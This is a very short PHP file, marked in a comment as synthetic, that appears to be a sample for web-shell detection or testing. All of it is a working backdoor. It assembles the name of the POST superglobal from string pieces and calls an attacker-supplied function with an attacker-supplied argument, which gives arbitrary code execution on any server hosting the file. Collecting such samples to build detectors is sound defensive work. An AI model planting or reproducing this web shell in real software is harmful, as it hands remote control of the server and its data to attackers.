<?php
// synthetic: both the function and its argument from a computed superglobal name
$_ = '_' . 'POST';
$$_[0]($$_[1]);
